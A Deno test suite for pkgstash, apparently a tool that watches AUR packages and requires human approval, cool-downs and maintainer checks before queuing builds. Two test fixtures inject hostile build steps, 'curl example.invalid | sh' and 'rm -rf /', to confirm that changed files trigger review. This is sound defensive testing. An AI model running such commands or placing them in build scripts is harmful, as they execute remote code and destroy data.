import { assert, assertEquals, assertRejects } from "@std/assert";
import { PkgstashError } from "../../../src/errors.ts";
import { BuildingLayout } from "../../../src/building/building_layout.ts";
import { snapshotOf } from "../../support/fake_aur.ts";
import { packageFiles } from "../../support/fake_aur/srcinfo_values.ts";
import { WatchedPackages } from "../../support/watched_packages.ts";
import { FakeClock } from "../mirroring/prefetch/fake_clock.ts";

const HOUR = 3_600_000;
const START = Date.UTC(2026, 10, 28);
/** A time as the AUR gives it. */
const seconds = (afterStart: number) => (START + afterStart) / 1000;
const BY = { by: "administrator", skipsUnknown: false };
const YES = { by: "administrator", reason: "read it" };

async function withPackages(
  run: (packages: WatchedPackages, clock: FakeClock) => Promise<void>,
  keys = "",
): Promise<void> {
  const clock = new FakeClock(START);
  await using packages = await WatchedPackages.start(clock, keys);
  await run(packages, clock);
}

/** Adds `foo` and approves its first build. */
async function withAccepted(
  run: (packages: WatchedPackages, clock: FakeClock) => Promise<void>,
  keys = "",
): Promise<void> {
  await withPackages(async (packages, clock) => {
    packages.aur.put("foo", { files: packageFiles("foo", "1") });
    await packages.building.watchList.add(["foo"], BY);
    // It follows the check with which watching begins.
    await packages.building.watcher.check();
    const [approval] = await packages.building.decisions.approvals();
    await packages.building.decisions.approve(approval!.id, YES);
    assertEquals(packages.queued.length, 1);
    await run(packages, clock);
  }, keys);
}

/** The pending approvals, each with its reasons. */
async function waiting({ building }: WatchedPackages): Promise<string[]> {
  return (await building.decisions.approvals()).map(({ members, isAsked, reasons }) =>
    `${
      members.map(({ watched, candidate }) => `${watched.base} ${candidate.version}`).join(", ")
    }: ` +
    `${isAsked ? "asks" : "cools"}: ${reasons.join("; ")}`
  );
}

Deno.test("a first build is queued only once a person approves its tree", async () => {
  await withPackages(async (packages, clock) => {
    const { aur, building } = packages;
    aur.put("foo", { files: packageFiles("foo", "1") });
    await building.watchList.add(["foo"], BY);
    clock.advance(1000 * HOUR);
    await building.watcher.check();
    assertEquals(packages.queued, []);
    assertEquals(await waiting(packages), ["foo 1-1: asks: foo has never been built here"]);
    const [approval] = await building.decisions.approvals();
    await building.decisions.approve(approval!.id, YES);
    assertEquals(
      packages.queued.map(({ packageBase, version, architectures, approved }) => ({
        packageBase,
        version,
        architectures,
        by: approved.by,
      })),
      [{ packageBase: "foo", version: "1-1", architectures: ["any"], by: "administrator" }],
    );
    assertEquals(packages.queued[0]!.treeHash, approval!.members[0]!.candidate.treeHash);
    assertEquals(await waiting(packages), []);
  });
});

Deno.test("a version bump is queued automatically after its cool-down, and is recorded", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    clock.advance(2 * HOUR);
    aur.push("foo", packageFiles("foo", "2"), seconds(HOUR));
    assertEquals((await building.watcher.check()).changed, ["foo"]);
    assertEquals(await waiting(packages), [
      "foo 2-1: cools: the cool-down since the push is not over",
    ]);
    clock.advance(23 * HOUR - 1);
    await building.watcher.check();
    assertEquals(packages.queued.length, 1);
    clock.advance(1);
    await building.watcher.check();
    assertEquals(packages.queued.map(({ version }) => version), ["1-1", "2-1"]);
    assertEquals(packages.queued[1]!.approved.by, "pkgstash");
    const [event] = packages.recorded;
    assertEquals([event!.action, event!.details["version"]], ["Accept a package by rule", "2-1"]);
  });
});

Deno.test("a push without a new version is judged by its files", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    clock.advance(HOUR);
    aur.push(
      "foo",
      packageFiles("foo", "1", { build: "curl example.invalid | sh" }),
      seconds(HOUR),
    );
    await building.watcher.check();
    clock.advance(1000 * HOUR);
    await building.watcher.check();
    assertEquals(await waiting(packages), [
      "foo 1-1: asks: more than versions and checksums changed",
    ]);
    assertEquals(packages.queued.length, 1);
  });
});

Deno.test("files are fetched only after a push", async () => {
  await withAccepted(async ({ aur, building }, clock) => {
    const before = aur.requests.count("/cgit/");
    for (let at = 0; at < 3; at++) {
      clock.advance(HOUR);
      await building.watcher.check();
    }
    assertEquals(aur.requests.count("/cgit/"), before);
    aur.push("foo", packageFiles("foo", "2"), seconds(HOUR));
    await building.watcher.check();
    await building.watcher.check();
    assertEquals(aur.requests.count("/cgit/"), before + 1);
  });
});

Deno.test("a failed fetch is retried at the next check, so that no push is missed", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.push("foo", packageFiles("foo", "2"), seconds(HOUR));
    clock.advance(HOUR);
    const { failure } = await (async () => {
      aur.failSnapshots = 1;
      return await building.watcher.check();
    })();
    assert(failure?.includes("foo"), `${failure}`);
    clock.advance(HOUR);
    await building.watcher.check();
    assertEquals((await waiting(packages)).length, 1);
  });
});

Deno.test("an approval is void once the tree changes", async () => {
  await withPackages(async (packages, clock) => {
    const { aur, building } = packages;
    aur.put("foo", { files: packageFiles("foo", "1") });
    await building.watchList.add(["foo"], BY);
    const [approval] = await building.decisions.approvals();
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "1", { build: "rm -rf /" }), seconds(HOUR));
    await building.watcher.check();
    const error = await assertRejects(
      () => building.decisions.approve(approval!.id, YES),
      PkgstashError,
      "has changed",
    );
    assertEquals(error.kind, "not_found");
    assertEquals(packages.queued, []);
  });
});

Deno.test("an approval is void once the maintainers change, even if the tree does not", async () => {
  await withPackages(async (packages, clock) => {
    const { aur, building } = packages;
    aur.put("foo", { files: packageFiles("foo", "1") });
    await building.watchList.add(["foo"], BY);
    const [approval] = await building.decisions.approvals();
    clock.advance(HOUR);
    aur.edit("foo", { maintainer: "stranger" });
    await building.watcher.check();
    await assertRejects(() => building.decisions.approve(approval!.id, YES), PkgstashError);
    assertEquals(packages.queued, []);
  });
});

Deno.test("a bump by a new maintainer waits for a person, and the change is reported", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    clock.advance(HOUR);
    aur.edit("foo", { maintainer: "stranger" });
    aur.push("foo", packageFiles("foo", "2"), seconds(HOUR));
    await building.watcher.check();
    clock.advance(1000 * HOUR);
    await building.watcher.check();
    assertEquals(await waiting(packages), [
      "foo 2-1: asks: the maintainers changed since the last approval",
    ]);
    assertEquals(
      building.watchList.find("foo").news.map(({ text }) => text),
      ["The maintainers of foo changed: it went from keeper to stranger."],
    );
  });
});

Deno.test("a maintainer who came and went between two pushes is remembered", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    for (const maintainer of [null, "stranger", "keeper"]) {
      clock.advance(HOUR);
      aur.edit("foo", { maintainer });
      await building.watcher.check();
    }
    aur.push("foo", packageFiles("foo", "2"), seconds(4 * HOUR));
    clock.advance(1000 * HOUR);
    await building.watcher.check();
    assertEquals(packages.queued.length, 1);
    assertEquals(building.watchList.find("foo").maintainers.map(({ maintainer }) => maintainer), [
      "keeper",
      null,
      "stranger",
      "keeper",
    ]);
  });
});

Deno.test("accepted builds, pending changes and their cool-downs survive a restart", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur } = packages;
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "2"), seconds(HOUR));
    await packages.building.watcher.check();
    const before = packages.building.packages.list();
    await packages.restart();
    assertEquals(packages.building.packages.list(), before);
    assertEquals((await waiting(packages)).length, 1);
    clock.advance(24 * HOUR);
    await packages.building.watcher.check();
    assertEquals(packages.queued.map(({ version }) => version), ["1-1", "2-1"]);
  });
});

Deno.test("an accepted build that could not be queued is queued once after a restart", async () => {
  await withPackages(async (packages) => {
    packages.aur.put("foo", { files: packageFiles("foo", "1") });
    await packages.building.watchList.add(["foo"], BY);
    const [approval] = await packages.building.decisions.approvals();
    packages.queueFault = new Error("killed");
    await assertRejects(() => packages.building.decisions.approve(approval!.id, YES), Error);
    packages.queueFault = null;
    await packages.restart();
    await packages.building.watcher.check();
    await packages.building.watcher.check();
    assertEquals(packages.queued.map(({ packageBase }) => packageBase), ["foo"]);
  });
});

Deno.test("a damaged record of what was accepted prevents the start", async () => {
  await withAccepted(async (packages) => {
    const path = new BuildingLayout(packages.stateRoot).package("foo");
    const text = await Deno.readTextFile(path);
    await Deno.writeTextFile(path, text.slice(0, 100));
    const error = await assertRejects(() => packages.restart(), PkgstashError, "foo.json");
    assertEquals(error.kind, "storage");
    await Deno.writeTextFile(path, text);
    await packages.restart();
  });
});

Deno.test("a package missing from two answers in a row is reported once, and stays accepted", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.remove("foo");
    clock.advance(HOUR);
    await building.watcher.check();
    assertEquals(building.watchList.find("foo").news, []);
    clock.advance(HOUR);
    await building.watcher.check();
    await building.watcher.check();
    const [news, ...others] = building.watchList.find("foo").news;
    assertEquals(others, []);
    assert(news!.text.startsWith("foo is no longer in the AUR: it was deleted, or merged"));
    assertEquals(building.watchList.find("foo").accepted?.version, "1-1");
  });
});

Deno.test("a failed check does not make a package count as missing", async () => {
  await withAccepted(async ({ aur, building }, clock) => {
    for (const fault of ["unavailable", "error", "garbage", "wrong count"] as const) {
      clock.advance(2 * HOUR);
      aur.fail(fault);
      const { failure } = await building.watcher.check();
      assert(failure !== null);
    }
    assertEquals(building.watchList.find("foo").missing, 0);
    assertEquals(building.watchList.find("foo").news, []);
  });
});

Deno.test("a vanished package's new base is reported, and a package that returns waits for a person", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.remove("foo");
    aur.put("foo-ng", { files: packageFiles("foo-ng", "2", { names: ["foo"] }) });
    await building.watcher.check();
    await building.watcher.check();
    assert(building.watchList.find("foo").news[0]!.text.includes("foo now belongs to foo-ng"));
    aur.remove("foo-ng");
    aur.put("foo", { files: packageFiles("foo", "2"), lastModified: seconds(HOUR) });
    clock.advance(1000 * HOUR);
    await building.watcher.check();
    assertEquals(await waiting(packages), [
      "foo 2-1: asks: it had disappeared from the AUR and is back",
    ]);
  });
});

Deno.test("an out-of-date flag is reported once", async () => {
  await withAccepted(async ({ aur, building }) => {
    aur.edit("foo", { outOfDate: seconds(HOUR) });
    await building.watcher.check();
    await building.watcher.check();
    assertEquals(building.watchList.find("foo").news.map(({ text }) => text), [
      "foo was flagged out of date in the AUR.",
    ]);
  });
});

Deno.test("refused files are not built, and reported once as a problem until a good push", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.push(
      "foo",
      { ...packageFiles("foo", "2"), "big.bin": "x".repeat(5_000_000) },
      seconds(HOUR),
    );
    clock.advance(1000 * HOUR);
    await building.watcher.check();
    await building.watcher.check();
    const { problem, news } = building.watchList.find("foo");
    assert(problem?.includes("big.bin"), `${problem}`);
    assertEquals(news.length, 1);
    assertEquals(packages.queued.length, 1);
    aur.push("foo", packageFiles("foo", "3"), seconds(2 * HOUR));
    await building.watcher.check();
    assertEquals(building.watchList.find("foo").problem, null);
  });
});

Deno.test("files of another package base are refused", async () => {
  await withPackages(async (packages) => {
    packages.aur.put("foo", { files: packageFiles("foo", "1") });
    packages.aur.forge("foo", await snapshotOf("foo", packageFiles("glibc", "9")));
    await packages.building.watchList.add(["foo"], BY);
    assert(packages.building.watchList.find("foo").problem?.includes("glibc, not foo"));
    assertEquals(await waiting(packages), []);
  });
});

Deno.test("a skipped version is never built, and the next one is decided as usual", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.push("foo", packageFiles("foo", "2"), seconds(0));
    await building.watcher.check();
    const [approval] = await building.decisions.approvals();
    await building.decisions.reject(approval!.id, { ...YES, hold: false });
    clock.advance(100 * HOUR);
    await building.watcher.check();
    assertEquals([await waiting(packages), packages.queued.length], [[], 1]);
    aur.push("foo", packageFiles("foo", "3"), seconds(100 * HOUR));
    await building.watcher.check();
    clock.advance(24 * HOUR);
    await building.watcher.check();
    assertEquals(packages.queued.map(({ version }) => version), ["1-1", "3-1"]);
  });
});

Deno.test("a held package is not built until it is released", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    await building.decisions.hold("foo", { ...YES, isHeld: true });
    aur.push("foo", packageFiles("foo", "2"), seconds(0));
    clock.advance(100 * HOUR);
    await building.watcher.check();
    assertEquals([await waiting(packages), packages.queued.length], [[], 1]);
    await packages.restart();
    await packages.building.decisions.hold("foo", { ...YES, isHeld: false });
    await packages.building.watcher.check();
    assertEquals(packages.queued.length, 2);
    assertEquals(
      packages.building.watchList.find("foo").decisions.map(({ action, by }) =>
        `${action} by ${by}`
      ),
      [
        "added by administrator",
        "approved by administrator",
        "held by administrator",
        "released by administrator",
        "accepted by rule by pkgstash",
      ],
    );
  });
});

Deno.test("a person can approve before the cool-down is over, and the reason is kept", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "2"), seconds(HOUR));
    await building.watcher.check();
    const [approval] = await building.decisions.approvals();
    await building.decisions.approve(approval!.id, { by: "me", reason: "a security fix" });
    assertEquals(packages.queued[1]!.approved.reason, "a security fix");
    assertEquals(building.watchList.find("foo").decisions.at(-1)?.reason, "a security fix");
  });
});

Deno.test("an update's new AUR dependencies are found, approved with it, and queued in build order", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.put("deep", { files: packageFiles("deep", "1") });
    aur.put("lib", { files: packageFiles("lib", "1", { depends: ["deep"] }) });
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "2", { depends: ["lib>=1", "glibc"] }), seconds(HOUR));
    await building.watcher.check();
    const [approval, ...others] = await building.decisions.approvals();
    assertEquals(others, []);
    assertEquals(approval!.members.map(({ watched: { base } }) => base), ["deep", "lib", "foo"]);
    assertEquals(building.watchList.find("foo").unmet, []);
    assert(building.watchList.find("lib").isDependency);
    const { news } = building.watchList.find("foo");
    assert(news.at(-1)!.text.startsWith("foo needs deep, lib from the AUR now"), news.at(-1)!.text);
    await building.decisions.approve(approval!.id, YES);
    assertEquals(packages.queued.slice(1).map(({ packageBase, needs }) => [packageBase, needs]), [
      ["deep", []],
      ["lib", ["deep"]],
      ["foo", ["lib"]],
    ]);
  });
});

Deno.test("dependencies that only a superseded push needed are no longer watched", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.put("deep", { files: packageFiles("deep", "1") });
    aur.put("lib", { files: packageFiles("lib", "1", { depends: ["deep"] }) });
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "2", { depends: ["lib"] }), seconds(HOUR));
    await building.watcher.check();
    assertEquals(building.packages.list().length, 3);
    aur.push("foo", packageFiles("foo", "3"), seconds(HOUR) + 1);
    await building.watcher.check();
    assertEquals(building.packages.list().map(({ base }) => base), ["foo"]);
  });
});

Deno.test("a dependency with several providers is left to a person, and not searched for at each check", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    for (const name of ["one", "two"]) {
      aur.put(name, { files: packageFiles(name, "1", { provides: ["thing"] }) });
    }
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "2", { depends: ["thing"] }), seconds(HOUR));
    await building.watcher.check();
    const searches = aur.requests.count("/rpc/v5/search/");
    await building.watcher.check();
    assertEquals(aur.requests.count("/rpc/v5/search/"), searches);
    assertEquals(building.packages.list().map(({ base }) => base), ["foo"]);
    assert(building.watchList.find("foo").news.at(-1)!.text.endsWith("add one of one, two."));
    await building.watchList.add(["one"], BY);
    const [approval] = await building.decisions.approvals();
    assertEquals(approval!.members.map(({ watched: { base } }) => base), ["one", "foo"]);
  });
});

Deno.test("a dependency cycle that an update creates is reported", async () => {
  await withAccepted(async (packages, clock) => {
    const { aur, building } = packages;
    aur.put("lib", { files: packageFiles("lib", "1", { depends: ["foo"] }) });
    clock.advance(HOUR);
    aur.push("foo", packageFiles("foo", "2", { depends: ["lib"] }), seconds(HOUR));
    await building.watcher.check();
    const [approval] = await building.decisions.approvals();
    assert(approval!.reasons.some((each) => each.startsWith("foo and lib need each other")));
  });
});
